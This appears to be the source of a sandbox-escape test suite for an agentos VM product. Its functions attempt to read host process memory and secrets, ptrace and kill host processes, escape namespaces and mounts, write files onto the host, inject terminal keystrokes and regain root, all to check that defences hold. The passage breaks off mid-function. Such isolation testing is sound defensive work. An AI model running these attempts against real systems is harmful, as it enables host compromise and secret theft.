"""What a hostile program in a VM tries, one function for each attempt. Stands alone: it runs inside the VM.

    python3 payloads.py NAME CONTEXT

CONTEXT is JSON: where on the host and in a neighbour VM there is something to be had. A payload returns what it
got, which is printed after ESCAPED; whatever it raises is what kept it in. It proves nothing by itself: `stage`
looks for the secret in what was printed, or for the effect outside. Only attempts whose proof is "kernel" are
believed, because what they want is that the kernel does as it was told.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import os
import platform
import resource
import select
import signal
import socket
import stat
import struct
import sys
import termios
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

Context = dict[str, Any]
Body = Callable[[Context], object]


@dataclass(frozen=True)
class Attempt:
    """One attempt. `without` names the defences (of `mutations`) that must be gone together for it to succeed."""

    name: str
    family: str
    body: Body
    without: tuple[str, ...]
    user: str
    proof: str
    """secret: it is printed; effect: something appears on the host; kernel: the payload says so; ends: the VM, or
    the host's process, is gone; neighbour: another VM can not do what it could."""
    modes: tuple[str, ...]
    """Where the host is one on which it could succeed at all."""
    before: str = ""
    """A shell command that the VM's root runs first."""
    unpromised: tuple[str, ...] = ()
    """Where SECURITY.md says that the product does not hold it."""


ATTEMPTS: dict[str, Attempt] = {}
ANY = ("root", "subuid", "single")
RANGE = ("root", "subuid")
ROOT = ("root",)
PRIVILEGED = ("user namespace", "capabilities", "filter")


def attempt(
    family: str,
    *without: str,
    user: str = "agentos",
    proof: str = "kernel",
    modes: tuple[str, ...] = ANY,
    before: str = "",
    unpromised: tuple[str, ...] = (),
) -> Callable[[Body], Body]:
    """Put a function into the table."""

    def add(body: Body) -> Body:
        name = body.__name__.removesuffix("_")
        assert name not in ATTEMPTS, name
        ATTEMPTS[name] = Attempt(name, family, body, without, user, proof, modes, before, unpromised)
        return body

    return add


def privileged(family: str, *without: str, proof: str = "kernel") -> Callable[[Body], Body]:
    """Put a function into the table that takes a VM whose root is the host's, with everything that it may."""
    return attempt(family, *PRIVILEGED, *without, user="root", proof=proof, modes=ROOT)


# ---------------------------------------------------------------- system calls

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_X86 = platform.machine() == "x86_64"


def call(number: int, *arguments: object) -> int:
    """One raw system call. Raises OSError."""
    converted = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    ctypes.set_errno(0)
    result = int(_libc.syscall(ctypes.c_long(number), *converted))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def libc(name: str, *arguments: object) -> int:
    """One function of the C library. Raises OSError."""
    ctypes.set_errno(0)
    result = int(getattr(_libc, name)(*arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def reaches(expected: tuple[int, ...], number: int, *arguments: object) -> str:
    """A call that must not do what it could: the kernel's complaint about its arguments shows that it was let in."""
    try:
        return f"done: {call(number, *arguments)}"
    except OSError as error:
        if error.errno in expected:
            return f"the kernel looked at the arguments: {error}"
        raise


def numbers(x86_64: int, aarch64: int) -> int:
    """The number of a call below 424, where architectures differ."""
    return x86_64 if _X86 else aarch64


PTRACE, PROCESS_VM_READV, KCMP = numbers(101, 117), numbers(310, 270), numbers(312, 272)
UNSHARE, CLONE, SETNS, CHROOT = numbers(272, 97), numbers(56, 220), numbers(308, 268), numbers(161, 51)
PIVOT_ROOT, UMOUNT2 = numbers(155, 41), numbers(166, 39)
PRLIMIT, IO_SETUP = numbers(302, 261), numbers(206, 0)
NEW = {
    "NS": 0x20000,
    "CGROUP": 0x2000000,
    "UTS": 0x4000000,
    "IPC": 0x8000000,
    "USER": 0x10000000,
    "PID": 0x20000000,
}

# ---------------------------------------------------------------- processes of the host


def processes() -> Iterator[int]:
    """Every pid of which /proc says something, this one left out."""
    for name in os.listdir("/proc"):
        if name.isdecimal() and int(name) != os.getpid():
            yield int(name)


def first(found: Iterator[object]) -> object:
    """The first thing that was found. Raises LookupError where there is none."""
    for one in found:
        if one:
            return one
    raise LookupError("nothing found")


def marked(context: Context, path: str) -> Iterator[object]:
    """What the files /proc/PID/`path` hold of the host's secret."""
    for pid in processes():
        try:
            if not stat.S_ISREG(os.stat(f"/proc/{pid}/{path}").st_mode):
                continue  # some other process has a pipe by that number, from which a read may not return
            with open(f"/proc/{pid}/{path}", "rb") as file:
                content = file.read(65536)
        except OSError:
            continue
        if context["mark"].encode() in content:
            yield content.decode("utf-8", "replace")


@attempt("processes", "own /proc", proof="secret")
def host_cmdline(context: Context) -> object:
    return first(marked(context, "cmdline"))


@attempt("processes", "own /proc", *PRIVILEGED, user="root", proof="secret", modes=ROOT)
def host_environ(context: Context) -> object:
    return first(marked(context, "environ"))


@attempt("processes", "own /proc", *PRIVILEGED, user="root", proof="secret", modes=ROOT)
def host_root_link(context: Context) -> object:
    return first(marked(context, "root/" + context["secret_path"]))


@attempt("processes", "own /proc", *PRIVILEGED, user="root", proof="secret", modes=ROOT)
def host_cwd_link(context: Context) -> object:
    return first(marked(context, "cwd/" + os.path.basename(context["secret_path"])))


@attempt("processes", "own /proc", *PRIVILEGED, user="root", proof="secret", modes=ROOT)
def host_fd_link(context: Context) -> object:
    return first(marked(context, "fd/" + str(context["secret_fd"])))


@attempt("processes", "own /proc", *PRIVILEGED, user="root", proof="secret", modes=ROOT)
def host_memory(context: Context) -> object:
    def found() -> Iterator[object]:
        for pid in processes():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as file:
                    if context["mark"].encode() not in file.read():
                        continue
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
                    for line in maps:
                        if "[stack]" in line:
                            start, end = (int(one, 16) for one in line.split()[0].split("-"))
                            memory.seek(start)
                            content = memory.read(end - start)
                            at = content.find(context["mark"].encode())
                            yield content[at : at + 200].decode("utf-8", "replace") if at >= 0 else ""
            except OSError:
                continue

    return first(found())


@attempt("processes", "pid namespace", "user namespace", user="root", proof="ends", modes=ROOT)
def host_kill(context: Context) -> object:
    os.kill(context["victim"], signal.SIGKILL)
    return "sent"


@attempt("processes", "pid namespace", "user namespace", user="root", proof="ends", modes=ROOT)
def host_pidfd_signal(context: Context) -> object:
    signal.pidfd_send_signal(os.pidfd_open(context["victim"]), signal.SIGKILL)
    return "sent"


@attempt("processes", "pid namespace", "user namespace", user="root", modes=ROOT)
def host_limits(context: Context) -> object:
    pair = (ctypes.c_ulong * 2)()
    call(PRLIMIT, context["victim"], 7, None, pair)
    return f"open files of the host's process: {list(pair)}"


@privileged("processes", "pid namespace")
def host_affinity(context: Context) -> object:
    os.sched_setaffinity(context["victim"], {min(os.sched_getaffinity(0))})
    return "set"


@privileged("processes", "pid namespace")
def host_ptrace(context: Context) -> object:
    call(PTRACE, 0x4206, context["victim"], 0, 0)  # PTRACE_SEIZE
    return "seized"


def read_memory(pid: int, address: int, size: int = 64) -> bytes:
    """process_vm_readv(2)."""
    local = ctypes.create_string_buffer(size)
    ours = (ctypes.c_ulong * 2)(ctypes.addressof(local), size)
    theirs = (ctypes.c_ulong * 2)(address, size)
    count = call(PROCESS_VM_READV, pid, ours, 1, theirs, 1, 0)
    return local.raw[:count]


@privileged("processes", "pid namespace", proof="secret")
def host_process_vm_readv(context: Context) -> object:
    text = read_memory(context["victim"], context["secret_address"], 256)
    return text.decode("utf-8", "replace")


@privileged("processes", "pid namespace", proof="secret")
def host_pidfd_getfd(context: Context) -> object:
    pidfd = os.pidfd_open(context["victim"])
    return os.pread(call(438, pidfd, context["secret_fd"], 0), 4096, 0).decode()


# ---------------------------------------------------------------- init and its servants

SERVANTS = range(1, 40)


def servants(path: str) -> Iterator[tuple[int, bytes]]:
    """What the files `path` of processes named init hold: init's fork are called like it."""
    for pid in SERVANTS:
        try:
            with open(f"/proc/{pid}/comm") as file:
                if file.read().strip() != "init":
                    continue
            with open(f"/proc/{pid}/{path}", "rb") as opened:
                yield pid, opened.read(4096)
        except OSError:
            continue


def init_file(path: str) -> str:
    with open(f"/proc/1/{path}", "rb") as file:
        return f"{len(file.read(4096))} bytes of init's {path}"


@attempt("init", "undumpable", "capabilities", user="root", modes=RANGE)
def init_maps(context: Context) -> object:
    return init_file("maps")


@attempt("init", "undumpable", "capabilities", user="root", modes=RANGE)
def init_environ(context: Context) -> object:
    return init_file("environ")


@attempt("init", "undumpable", "capabilities", user="root", modes=RANGE)
def init_exe(context: Context) -> object:
    return init_file("exe")


@attempt("init", "undumpable", "capabilities", user="root", modes=RANGE)
def init_fds(context: Context) -> object:
    return [os.readlink(f"/proc/1/fd/{name}") for name in os.listdir("/proc/1/fd")]


@attempt("init", "undumpable", "capabilities", user="root", modes=RANGE)
def init_root(context: Context) -> object:
    return os.listdir("/proc/1/root/")


@attempt("init", "undumpable", "capabilities", user="root", modes=RANGE)
def init_cwd(context: Context) -> object:
    return os.listdir("/proc/1/cwd/")


@attempt("init", "undumpable", "capabilities", user="root", modes=RANGE)
def init_memory(context: Context) -> object:
    with open("/proc/1/maps") as maps:
        start = int(maps.readline().split("-")[0], 16)
    memory = os.open("/proc/1/mem", os.O_RDWR)
    return os.pread(memory, 16, start)


@attempt("init", "undumpable", "capabilities", "filter", user="root", modes=RANGE)
def init_ptrace(context: Context) -> object:
    call(PTRACE, 0x4206, 1, 0, 0)
    return "seized"


@attempt("init", "undumpable", "capabilities", "filter", user="root", modes=RANGE)
def init_pidfd_getfd(context: Context) -> object:
    return os.readlink(f"/proc/self/fd/{call(438, os.pidfd_open(1), 3, 0)}")


@attempt("init", "default signals", user="root", proof="ends", modes=RANGE)
def init_signals(context: Context) -> object:
    for number in sorted(signal.valid_signals()):
        os.kill(1, number)
    time.sleep(0.3)
    return "sent"


@attempt("init", "filter", user="root")
def init_limits(context: Context) -> object:
    pair = (ctypes.c_ulong * 2)()
    call(PRLIMIT, 1, 7, None, pair)
    call(PRLIMIT, 1, 7, pair, None)
    return "set"


@attempt("init", "filter")
def spawner_limits(context: Context) -> object:
    pair = (ctypes.c_ulong * 2)(4, 4)
    call(PRLIMIT, os.getppid(), 7, pair, None)
    return "every program from now on has four descriptors"


@attempt("init", "undumpable", "capabilities", user="root", modes=RANGE)
def spawner_memory(context: Context) -> object:
    return os.pread(os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR), 16, first_mapping(os.getppid()))


@attempt("init", "undumpable", "capabilities", user="root", modes=RANGE)
def spawner_journal(context: Context) -> object:
    return os.readlink(f"/proc/{os.getppid()}/fd/4")


def first_mapping(pid: int) -> int:
    with open(f"/proc/{pid}/maps") as maps:
        return int(maps.readline().split("-")[0], 16)


def file_worker() -> int:
    """The pid of the file worker, which is busy with a file that never ends."""
    return next(pid for pid, _ in servants("maps") if pid not in (1, os.getppid()))


# With a single id it has the guest's user id and no capability: it is one flag away from being traced.
@attempt("init", "undumpable", user="root", modes=RANGE)
def worker_memory(context: Context) -> object:
    pid = file_worker()
    return os.pread(os.open(f"/proc/{pid}/mem", os.O_RDWR), 16, first_mapping(pid))


@attempt("init", "undumpable", modes=("single",))
def worker_memory_same_id(context: Context) -> object:
    return worker_memory(context)


@attempt("init", "undumpable", user="root", modes=RANGE)
def worker_socket(context: Context) -> object:
    return os.readlink(f"/proc/{file_worker()}/fd/3")


@attempt("init", "undumpable", "filter", user="root", modes=RANGE)
def worker_ptrace(context: Context) -> object:
    call(PTRACE, 0x4206, file_worker(), 0, 0)
    return "seized"


@attempt("init", "undumpable", "filter", modes=("single",))
def worker_ptrace_same_id(context: Context) -> object:
    return worker_ptrace(context)


@attempt("init", "undumpable", "filter", user="root", modes=RANGE)
def worker_process_vm_readv(context: Context) -> object:
    pid = file_worker()
    return read_memory(pid, first_mapping(pid))


@attempt("init", "undumpable", "filter", user="root", modes=RANGE)
def worker_pidfd_getfd(context: Context) -> object:
    return os.readlink(f"/proc/self/fd/{call(438, os.pidfd_open(file_worker()), 3, 0)}")


# ---------------------------------------------------------------- namespaces


@attempt("namespaces", "filter")
def unshare_user(context: Context) -> object:
    call(UNSHARE, NEW["USER"])
    return f"as {os.getuid()} with all capabilities"


@attempt("namespaces", "filter")
def unshare_user_with_dirty_high_half(context: Context) -> object:
    call(UNSHARE, NEW["USER"] | NEW["NS"] | NEW["CGROUP"])
    return "namespaces"


@attempt("namespaces", "filter")
def clone_user(context: Context) -> object:
    pid = call(CLONE, NEW["USER"] | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)


@attempt("namespaces", "filter")
def clone3_user(context: Context) -> object:
    arguments = (ctypes.c_uint64 * 11)(NEW["USER"], 0, 0, 0, signal.SIGCHLD)
    pid = call(435, arguments, 88)
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)


@attempt("namespaces", "filter", "capabilities", user="root", modes=RANGE)
def unshare_mounts(context: Context) -> object:
    call(UNSHARE, NEW["NS"])
    return "own mounts"


@attempt("namespaces", "filter", "capabilities", user="root", modes=RANGE)
def unshare_pids(context: Context) -> object:
    call(UNSHARE, NEW["PID"])
    return "own pids"


@attempt("namespaces", "capabilities", user="root", modes=RANGE)
def leave_the_lineage(context: Context) -> object:
    call(UNSHARE, NEW["CGROUP"])
    return "no kill finds this program any more"


@attempt("namespaces", "filter", "capabilities", user="root", modes=RANGE)
def setns_by_file(context: Context) -> object:
    call(SETNS, os.open("/proc/self/ns/uts", os.O_RDONLY), 0)
    return "entered"


@attempt("namespaces", "filter", "capabilities", user="root", modes=RANGE)
def setns_by_pidfd(context: Context) -> object:
    call(SETNS, os.pidfd_open(os.getpid()), NEW["UTS"] | NEW["IPC"])
    return "entered"


# ---------------------------------------------------------------- mounts


def mount(source: str, target: str, kind: str, flags: int = 0, data: str = "") -> None:
    libc("mount", source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), data.encode())


def mounts(*without: str, proof: str = "kernel") -> Callable[[Body], Body]:
    return attempt("mounts", "filter", "capabilities", *without, user="root", proof=proof, modes=RANGE)


@mounts()
def mount_tmpfs(context: Context) -> object:
    mount("none", "/mnt", "tmpfs")
    return "mounted"


@mounts()
def mount_bind(context: Context) -> object:
    mount("/etc", "/mnt", "", 4096)
    return os.listdir("/mnt")


@mounts()
def mount_move(context: Context) -> object:
    mount("/dev/shm", "/mnt", "", 8192)
    return "moved"


@mounts()
def unmask_proc(context: Context) -> object:
    call(UMOUNT2, b"/proc/kallsyms", 0)
    with open("/proc/kallsyms") as file:
        return len(file.read(1000)) or None


@mounts()
def remount_proc_sys(context: Context) -> object:
    mount("", "/proc/sys", "", 32 | 4096 | 2 | 4 | 8)
    with open("/proc/self/mountinfo") as file:
        return next(line for line in file if " /proc/sys rw" in line)


@mounts()
def mount_binfmt_misc(context: Context) -> object:
    mount("none", "/mnt", "binfmt_misc")
    return os.listdir("/mnt")


@mounts()
def mount_overlay_of_files_that_it_may_not_read(context: Context) -> object:
    os.makedirs("/tmp/o/u", exist_ok=True)
    os.makedirs("/tmp/o/w", exist_ok=True)
    mount("none", "/mnt", "tmpfs")
    for name in ("u", "w"):
        os.mkdir(f"/mnt/{name}")
    mount("none", "/media", "overlay", 0, "lowerdir=/usr/share,upperdir=/mnt/u,workdir=/mnt/w,userxattr")
    return "an overlay of its own"


@mounts()
def open_tree_and_move_mount(context: Context) -> object:
    tree = call(428, -100, b"/etc", 1)
    call(429, tree, b"", -100, b"/mnt", 4)
    return os.listdir("/mnt")


@mounts()
def fsopen_tmpfs(context: Context) -> object:
    handle = call(430, b"tmpfs", 0)
    call(431, handle, 6, None, None, 0)
    return call(432, handle, 0, 0)


@mounts()
def mount_setattr_writable(context: Context) -> object:
    attributes = (ctypes.c_uint64 * 4)(0, 1, 0, 0)
    call(442, -100, b"/proc/sys", 0, attributes, 32)
    return "read-only no more"


@mounts()
def pivot(context: Context) -> object:
    mount("none", "/mnt", "tmpfs")
    os.chdir("/mnt")
    os.mkdir("old")
    call(PIVOT_ROOT, b".", b"old")
    return os.listdir("/")


@mounts()
def chroot_away(context: Context) -> object:
    call(CHROOT, b"/tmp")
    return os.listdir("/")


@mounts()
def lazy_umount_of_dev(context: Context) -> object:
    call(UMOUNT2, b"/dev/shm", 2)
    return "gone"


def everywhere(path: str) -> Iterator[str]:
    """`path` below every mount of this mount namespace."""
    with open("/proc/self/mountinfo") as file:
        for line in file:
            yield line.split()[4].rstrip("/") + path


def read_everywhere(path: str) -> Iterator[object]:
    for one in everywhere(path):
        try:
            with open(one) as file:
                yield file.read(4096)
        except OSError:
            continue


@attempt("mounts", "old root gone", proof="secret")
def read_host_file(context: Context) -> object:
    return first(read_everywhere(context["secret_path"]))


@attempt("mounts", "old root gone", proof="effect")
def write_host_file(context: Context) -> object:
    for one in everywhere(context["directory"]):
        try:
            with open(f"{one}/{context['name']}", "w") as file:
                return file.write("owned")
        except OSError:
            continue
    raise LookupError("no way")


@attempt("mounts", "old root gone", proof="secret")
def read_host_shm(context: Context) -> object:
    return first(read_everywhere(context["dev_shm"]))


@attempt("mounts", "old root gone", "user namespace", user="root", proof="secret", modes=ROOT)
def read_host_file_of_root(context: Context) -> object:
    return first(read_everywhere(context["private_path"]))


@attempt("mounts", "old root gone", proof="secret")
def docker_socket(context: Context) -> object:
    for one in everywhere(context["unix_path"]):
        try:
            with socket.socket(socket.AF_UNIX) as sock:
                sock.connect(one)
                return sock.recv(4096).decode()
        except OSError:
            continue
    raise LookupError("no way")


@attempt("mounts", "usr layered or read-only", "user namespace", user="root", proof="effect", modes=ROOT)
def write_host_usr(context: Context) -> object:
    with open(f"{context['usr']}/{context['name']}", "w") as file:
        return file.write("owned")


# ---------------------------------------------------------------- devices

HOST_DEVICES = {
    "kmsg": os.O_RDONLY, "fuse": os.O_RDWR, "kvm": os.O_RDWR, "vsock": os.O_RDWR, "net/tun": os.O_RDWR,
    "loop-control": os.O_RDWR, "loop0": os.O_RDONLY, "console": os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK,
    "userfaultfd": os.O_RDWR,
}  # fmt: skip


def _open_device(name: str) -> None:
    def body(context: Context) -> object:
        flags = HOST_DEVICES[name]
        return f"descriptor {os.open(f'/dev/{name}', flags | os.O_NONBLOCK)}"

    body.__name__ = "dev_" + name.replace("/", "_").replace("-", "_")
    more = ("capabilities",) if name == "kmsg" else ()
    attempt("devices", "own /dev", "user namespace", *more, user="root", modes=ROOT)(body)


for _name in HOST_DEVICES:
    _open_device(_name)


@privileged("devices", "nodev")
def mknod_kernel_log(context: Context) -> object:
    os.mknod("/tmp/kmsg", stat.S_IFCHR | 0o600, os.makedev(1, 11))
    return os.open("/tmp/kmsg", os.O_RDONLY | os.O_NONBLOCK)


@privileged("devices", "nodev")
def mknod_loop_control(context: Context) -> object:
    os.mknod("/tmp/loop", stat.S_IFCHR | 0o600, context["loop_control"])
    return os.open("/tmp/loop", os.O_RDWR)


def own_terminal() -> tuple[int, int]:
    master = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(master, 0x40045431, struct.pack("i", 0))
    number = struct.unpack("I", fcntl.ioctl(master, 0x80045430, b"\0\0\0\0"))[0]
    os.setsid() if os.getsid(0) != os.getpid() else None
    return master, os.open(f"/dev/pts/{number}", os.O_RDWR)


@attempt("devices", "filter")
def tiocsti(context: Context) -> object:
    _, terminal = own_terminal()
    fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
    return "typed"


@attempt("devices", "filter")
def tiocsti_with_dirty_high_half(context: Context) -> object:
    _, terminal = own_terminal()
    buffer = ctypes.create_string_buffer(b"x")
    call(numbers(16, 29), terminal, 0x7FFF_FFFF_0000_0000 | termios.TIOCSTI, buffer)
    return "typed"


@attempt("devices", "filter")
def line_discipline(context: Context) -> object:
    _, terminal = own_terminal()
    fcntl.ioctl(terminal, 0x5423, struct.pack("i", 0))
    return "set"


@attempt("devices", "read-only device nodes")
def times_of_a_device(context: Context) -> object:
    """The node is the host's and every VM's: what one writes there, the others can read."""
    os.utime("/dev/null")
    return "set"


@attempt("devices", "own terminals", proof="effect")
def write_to_host_terminals(context: Context) -> object:
    written = []
    for name in os.listdir("/dev/pts"):
        if name.isdecimal():
            try:
                fd = os.open(f"/dev/pts/{name}", os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
                os.write(fd, context["mark"].encode())
                written.append(name)
            except OSError:
                continue
    return written


# ---------------------------------------------------------------- network


def read_tcp(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=2) as sock:
        return sock.recv(4096).decode()


@attempt("network", "network namespace", proof="secret")
def tcp_of_host(context: Context) -> object:
    return read_tcp("127.0.0.1", context["tcp"])


@attempt("network", "network namespace", proof="secret")
def tcp6_of_host(context: Context) -> object:
    return read_tcp("::1", context["tcp6"])


@attempt("network", "network namespace", proof="secret")
def tcp_of_neighbour(context: Context) -> object:
    return read_tcp("127.0.0.1", context["neighbour_tcp"])


@attempt("network", "network namespace", proof="secret")
def udp_of_host(context: Context) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(b"?", ("127.0.0.1", context["udp"]))
        return sock.recv(4096).decode()


def read_abstract(name: str) -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(2)
        sock.connect("\0" + name)
        return sock.recv(4096).decode()


@attempt("network", "network namespace", proof="secret")
def abstract_socket_of_host(context: Context) -> object:
    return read_abstract(context["abstract"])


@attempt("network", "network namespace", proof="secret")
def abstract_socket_of_neighbour(context: Context) -> object:
    return read_abstract(context["neighbour_abstract"])


@attempt("network", "network namespace")
def sockets_of_host_listed(context: Context) -> object:
    port = f":{context['tcp']:04X} "
    with open("/proc/net/tcp") as file:
        return next(line for line in file if port in line)


@attempt("network", "network namespace")
def unix_sockets_of_host_listed(context: Context) -> object:
    with open("/proc/net/unix") as file:
        return next(line for line in file if context["abstract"] in line)


@attempt("network", "network namespace")
def interfaces_of_host(context: Context) -> object:
    return next(name for _, name in socket.if_nameindex() if name != "lo")


@attempt("network", "network namespace")
def occupy_a_port_of_host(context: Context) -> object:
    sock = socket.socket()
    try:
        sock.bind(("127.0.0.1", context["tcp"]))
    except OSError as error:
        if error.errno == errno.EADDRINUSE:
            return "the host's port is in use here"
        raise
    raise LookupError("a port of its own")


@attempt("network", "filter")
def vsock(context: Context) -> object:
    return socket.socket(40, socket.SOCK_STREAM).fileno()


@attempt("network", "filter", "capabilities", user="root", modes=RANGE)
def packet_socket(context: Context) -> object:
    return socket.socket(17, socket.SOCK_RAW, socket.htons(3)).fileno()


@attempt("network", "capabilities", user="root", modes=RANGE)
def raw_socket(context: Context) -> object:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).fileno()


@attempt("network", "capabilities", user="root", modes=RANGE)
def rename_loopback(context: Context) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, 0x8914, struct.pack("16sh14x", b"lo", 0))
    return "loopback is down"


@attempt("network", "filter")
def netlink_of_other_subsystems(context: Context) -> object:
    return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15).fileno()  # NETLINK_KOBJECT_UEVENT


@attempt("network", "filter")
def socket_by_socketpair(context: Context) -> object:
    pair = (ctypes.c_int * 2)()
    return reaches((errno.EOPNOTSUPP, errno.EPROTONOSUPPORT), numbers(53, 199), 40, 1, 0, pair)


# ---------------------------------------------------------------- ipc


def shared_memory(key: int) -> str:
    number = libc("shmget", key, 0, 0)
    _libc.shmat.restype = ctypes.c_void_p
    address = _libc.shmat(number, None, 0o10000)
    return ctypes.string_at(address, 200).split(b"\0")[0].decode()


@attempt("ipc", "ipc namespace", proof="secret")
def shm_of_host(context: Context) -> object:
    return shared_memory(context["key"])


@attempt("ipc", "ipc namespace", proof="secret")
def shm_of_neighbour(context: Context) -> object:
    return shared_memory(context["neighbour_key"])


@attempt("ipc", "ipc namespace", proof="secret")
def message_of_host(context: Context) -> object:
    number = libc("msgget", context["key"], 0)
    buffer = ctypes.create_string_buffer(512)
    libc("msgrcv", number, buffer, ctypes.c_size_t(400), ctypes.c_long(0), 0o4000)  # IPC_NOWAIT
    return buffer.raw[8:].split(b"\0")[0].decode()


@attempt("ipc", "ipc namespace")
def semaphore_of_host(context: Context) -> object:
    return libc("semget", context["key"], 0, 0)


@attempt("ipc", "ipc namespace", proof="secret")
def queue_of_host(context: Context) -> object:
    libc_rt = ctypes.CDLL(None, use_errno=True)
    queue = libc_rt.mq_open(context["queue"].encode(), os.O_RDWR | os.O_NONBLOCK)
    if queue < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    buffer = ctypes.create_string_buffer(8192)
    count = libc_rt.mq_receive(queue, buffer, ctypes.c_size_t(8192), None)
    libc_rt.mq_send(queue, buffer, ctypes.c_size_t(count), 0)
    return buffer.raw[:count].decode()


@attempt("ipc", "ipc namespace")
def list_ipc_of_host(context: Context) -> object:
    with open("/proc/sysvipc/shm") as file:
        lines = file.readlines()[1:]
    if not lines:
        raise LookupError("none")
    return lines


# ---------------------------------------------------------------- users and privileges


@attempt("users", "nosuid", "no new privileges", proof="kernel", modes=RANGE,
         before="cp /usr/bin/id /tmp/sid && chmod 4755 /tmp/sid")  # fmt: skip
def setuid_root_program(context: Context) -> object:
    with os.popen("/tmp/sid -u") as pipe:
        if pipe.read().strip() != "0":
            raise PermissionError("it is not root")
    return "root"


@attempt("users", "nosuid", "no new privileges", "capabilities", modes=RANGE,
         before="cp $(readlink -f /usr/bin/python3) /tmp/pcap && setcap cap_setuid+ep /tmp/pcap")  # fmt: skip
def file_capabilities(context: Context) -> object:
    with os.popen("/tmp/pcap -c 'import os; os.setuid(0); print(os.getuid())' 2>&1") as pipe:
        text = pipe.read()
    if text.strip() != "0":
        raise PermissionError(text)
    return "root"


@attempt("users", "capabilities", user="root", modes=RANGE)
def take_capabilities_back(context: Context) -> object:
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    everything = 0xFFFFFFFF
    data = (ctypes.c_uint32 * 6)(1 << 21, 1 << 21, everything, 0, 0, 0)
    libc("capset", header, data)
    return "CAP_SYS_ADMIN"


@attempt("users", "capabilities", user="root", modes=RANGE)
def bounding_set_is_full(context: Context) -> object:
    return libc("prctl", 23, 21, 0, 0, 0) or None


@attempt("users", "user namespace", user="root", proof="kernel", modes=ROOT)
def host_user_id(context: Context) -> object:
    with open("/proc/self/uid_map") as file:
        inside, outside, _ = file.read().split()
    if (inside, outside) != ("0", "0"):
        raise PermissionError(f"root here is {outside} there")
    return "root is the host's root"


@attempt("users", "ids of its own", modes=ROOT, unpromised=("subuid", "single"))
def same_ids_as_neighbour(context: Context) -> object:
    with open("/proc/self/uid_map") as file:
        if file.read().split() != context["neighbour_map"]:
            raise PermissionError("other ids")
    return "the neighbour's ids"


@attempt("users", "filter", proof="secret", modes=ROOT)
def session_keyring_of_host(context: Context) -> object:
    found = call(numbers(250, 219), 10, -3, b"user", context["mark"].encode(), 0)
    buffer = ctypes.create_string_buffer(512)
    count = call(numbers(250, 219), 11, found, buffer, 512)
    return buffer.raw[:count].decode()


@attempt("users", "filter")
def add_key(context: Context) -> object:
    return call(numbers(248, 217), b"user", b"x", b"y", 1, -3)


@attempt("users", "filter")
def request_key(context: Context) -> object:
    return reaches((errno.ENOKEY,), numbers(249, 218), b"user", b"none", None, 0)


# ---------------------------------------------------------------- the kernel's interfaces


def kernel(number: int, *arguments: object, expected: tuple[int, ...] = (), name: str) -> None:
    """An attempt that is one call, made by the VM's user, and refused by the filter alone."""

    def body(context: Context) -> object:
        return reaches(expected, number, *arguments)

    body.__name__ = name
    attempt("kernel", "filter")(body)


_zeros = ctypes.create_string_buffer(512)
# The memory of rings is counted for each user of the host, and given back some time after they are closed.
kernel(425, 1, _zeros, expected=(errno.ENOMEM,), name="io_uring")
kernel(numbers(323, 282), 1, name="userfaultfd")
kernel(IO_SETUP, 16, ctypes.byref(ctypes.c_ulong(0)), name="aio_contexts_of_the_machine")
kernel(numbers(135, 92), 0x0400000, name="personality_read_implies_exec")
kernel(numbers(300, 262), 0x200, os.O_RDONLY, name="fanotify")
kernel(447, 0, name="memfd_secret")
kernel(numbers(238, 237), 0, 0, 0, name="set_mempolicy")
kernel(numbers(279, 239), 0, 0, 0, 0, 0, 0, name="move_pages")
kernel(numbers(256, 238), 0, 0, None, None, expected=(errno.EINVAL,), name="migrate_pages")
kernel(KCMP, os.getpid(), os.getpid(), 0, 0, 1, name="kcmp")
kernel(457, _zeros, _zeros, 512, 0, expected=(errno.EINVAL,), name="statmount")
kernel(458, _zeros, _zeros, 8, 0, expected=(errno.EINVAL,), name="listmount")
kernel(numbers(157, 167), 67, 1, 0, 0, 0, name="merge_memory_with_neighbours")
if _X86:
    kernel(154, 0, _zeros, 64, name="modify_ldt")
    kernel(136, 0, _zeros, expected=(errno.EINVAL,), name="ustat")


@attempt("kernel", "filter")
def perf_event(context: Context) -> object:
    attributes = ctypes.create_string_buffer(struct.pack("<IIQQQQQ", 1, 112, 0, 0, 0, 0, 0x61), 112)
    return call(numbers(298, 241), attributes, 0, -1, -1, 0)


@attempt("kernel", "filter")
def name_to_handle(context: Context) -> object:
    handle = ctypes.create_string_buffer(struct.pack("<II", 120, 0), 128)
    where = ctypes.c_int()
    return reaches((errno.EOVERFLOW,), numbers(303, 264), -100, b"/dev/shm", handle, ctypes.byref(where), 0)


@attempt("kernel", "filter")
def process_madvise(context: Context) -> object:
    buffer = ctypes.create_string_buffer(8192)
    vector = (ctypes.c_ulong * 2)((ctypes.addressof(buffer) + 4095) & ~4095, 4096)
    return call(440, os.pidfd_open(os.getpid()), vector, 1, 20, 0)


@attempt("kernel", "filter")
def vmsplice(context: Context) -> object:
    _, write = os.pipe()
